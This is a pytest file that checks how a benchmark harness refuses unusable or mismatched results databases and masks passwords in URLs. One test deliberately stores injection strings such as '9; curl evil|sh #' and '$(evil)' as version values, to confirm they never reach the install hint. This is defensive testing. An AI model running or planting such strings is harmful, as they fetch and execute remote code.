"""Tests of unusable databases, and databases of another version: one line with name, reason and remedy."""

import re
from pathlib import Path

import pytest

from harness.errors import UserError
from harness.extras import install
from harness.records import Records
from harness.records.schema import SCHEMA
from tests.records.evaluation_rows import evaluation
from tests.records.statements import execute


def refusal(location: str | Path, *, read_only: bool = False) -> str:
    with pytest.raises(UserError) as error:
        Records(str(location), read_only=read_only)
    assert len(str(error.value).splitlines()) == 1
    return str(error.value)


def test_a_file_that_must_exist_and_one_that_is_no_database(tmp_path: Path) -> None:
    file = tmp_path / "results.db"
    assert refusal(file, read_only=True).startswith(f"{file}: no such results file; run `pgdl run")
    assert not file.exists()
    file.write_text("rank,submission,score\n" * 100)
    remedy = "restore a backup, or name another database with --results"
    assert refusal(file) == f"{file}: the results database failed: file is not a database; {remedy}"
    assert file.read_text().startswith("rank,submission")


def test_the_file_of_another_program_stays_as_it_is(tmp_path: Path) -> None:
    file = tmp_path / "other.db"
    execute(str(file), "CREATE TABLE notes (text)")
    before = file.read_bytes()
    expected = "another program's file: expected a results file of pgdl, found tables notes"
    for read_only in (False, True):
        message = refusal(file, read_only=read_only)
        assert message == f"{file}: {expected}; name another database with --results"
    assert file.read_bytes() == before


@pytest.mark.parametrize("column", ["peak_memory_bytes", "outcome", "task"])
def test_the_table_of_another_version(column: str, file: Path) -> None:
    indices = [f"DROP INDEX IF EXISTS ix_evaluations_{index}" for index in (column, "version")]
    execute(str(file), *indices, f"ALTER TABLE evaluations DROP COLUMN {column}")
    message = refusal(file)
    assert message.startswith(f"{file}: table evaluations lacks columns {column}; ")
    assert message.endswith("name another database with --results")


def test_places_where_no_file_can_be(tmp_path: Path) -> None:
    missing = tmp_path / "no" / "results.db"
    assert refusal(missing).startswith(f"{missing}: the results database failed: there is no directory {tmp_path}/no;")
    (tmp_path / "circle").symlink_to("circle")
    assert "unable to open database file" in refusal(tmp_path / "circle")
    deep = tmp_path.joinpath(*["d" * 100] * 5)
    deep.mkdir(parents=True)
    assert "SQLite opens no path of more than 504 bytes" in refusal(deep / "results.db")
    place = Path("/proc/results.db")
    assert refusal(place).startswith(f"{place}: the results database failed: unable to open database file")
    assert refusal(tmp_path) == f"{tmp_path}: cannot be read: expected a regular file, found a directory"


def test_a_file_that_may_not_be_written_is_refused_when_the_first_row_comes(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reasons = {None: "attempt to write a readonly database", file: f"{file} is read-only; fix this"}
    for closed, why in (reasons | {file.parent: f"{file.parent} is read-only; fix this"}).items():
        with monkeypatch.context() as patch, Records(f"sqlite:///file:{file}?mode=ro&uri=true") as records:
            patch.setattr("os.access", lambda path, _mode, closed=closed: path != closed)  # root may write everywhere
            with pytest.raises(UserError, match=f"the results database failed: {why}"):
                records.add(evaluation())


ODD = "results: not an address, or one with several meanings: expected SCHEME://"


@pytest.mark.parametrize(
    ("location", "part"),
    [
        ("nosuch://host/name", "nosuch://host/name: not a database URL: expected sqlite:///FILE or postgresql"),
        ("nosuch://me:hunter2@host/name", "nosuch://me:***@host/name: not a database URL"),
        ("://", ODD),
        ("postgresql+psycopg://host:port/name", ODD),
        ("mysql+nosuchdriver://host/name", "nosuchdriver"),
        (
            "oracle+cx_oracle://host/name",
            f"No module named 'cx_Oracle'; for postgresql+psycopg://...: {install('postgresql')}",
        ),
    ],
)
def test_what_leads_to_no_database(location: str, part: str) -> None:
    message = refusal(location)
    assert part in message
    assert "hunter2" not in message


def test_drivers_of_another_database_or_without_their_own_library(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Psycopg without the extra `binary` is such a driver, if libpq is not installed."""
    monkeypatch.syspath_prepend(tmp_path)
    (tmp_path / "cx_Oracle.py").write_text("raise ImportError('no library found')")
    assert "no library found" in refusal("oracle+cx_oracle://host/name")
    (tmp_path / "pymysql.py").write_text("paramstyle, __version__ = 'format', '1.1.0'")
    message = refusal("mysql+pymysql://me:hunter2@host/name")
    assert message == "mysql+pymysql://me:***@host/name: not a results database: expected SQLite or PostgreSQL"


@pytest.mark.parametrize(
    ("recorded", "named"),
    [
        ("9.1.0", "9.1.0"), ("9.1.0rc1.dev2", "9.1.0rc1.dev2"),
        *((other, "of the version that wrote it") for other in ("9; curl evil|sh #", "9 --index-url evil", "$(evil)")),
    ],
)  # fmt: skip
def test_another_version_is_refused_with_the_program_that_it_needs(tmp_path: Path, recorded: str, named: str) -> None:
    file = tmp_path / "results.db"
    with Records(str(file)) as records:
        records.add(evaluation(harness_version=recorded))
    assert execute(str(file), "SELECT version_num FROM alembic_version") == [(str(SCHEMA),)]
    execute(str(file), f"UPDATE alembic_version SET version_num = '{SCHEMA + 1}'")
    expected = f"expected {SCHEMA}, found {SCHEMA + 1}; install pgdl-harness {named} or a later one"
    for read_only in (False, True):
        assert refusal(file, read_only=read_only) == f"{file}: version of the tables: {expected}"


#: Versions of another type and length than the harness writes.
ODD_VERSIONS = ["'" + "9" * 5000 + "'", "CAST('2' AS BLOB)", "NULL", "'two'", "-1", "'0'", "'02'", "'٣'"]
ANY_TYPE = "DROP TABLE alembic_version", "CREATE TABLE alembic_version (version_num VARCHAR(32))"


@pytest.mark.parametrize(
    ("statements", "found"),
    [
        (["UPDATE alembic_version SET version_num = 'ae1027a6\x1b'"], re.escape("ae1027a6?")),
        (["DELETE FROM alembic_version"], "none"),
        (["DROP TABLE alembic_version"], "none"),
        *(([*ANY_TYPE, f"INSERT INTO alembic_version VALUES ({odd})"], ".{1,40}") for odd in ODD_VERSIONS),
    ],
)
def test_tables_without_a_number_are_refused(file: Path, statements: list[str], found: str) -> None:
    execute(str(file), *statements)
    before = file.read_bytes()
    expected = f"expected one number without leading zeros, found {found}; name another database with --results"
    for read_only in (True, False):
        assert re.fullmatch(f"{file}: version of the tables: {expected}", refusal(file, read_only=read_only))
    assert file.read_bytes() == before


def test_who_reads_creates_nothing_and_changes_no_byte(file: Path, tmp_path: Path) -> None:
    before = file.read_bytes()
    with Records(str(file), read_only=True) as records:
        assert len(list(records.whole_of())) == 1
    assert file.read_bytes() == before
    file.write_bytes(b"")
    for location in (str(file), f"sqlite:///{file}", f"sqlite:///{tmp_path / 'typo.db'}"):
        with pytest.raises(UserError, match="run `pgdl run SUBMISSION` first"):
            Records(location, read_only=True)
    assert [(one, one.stat().st_size) for one in tmp_path.iterdir()] == [(file, 0)]
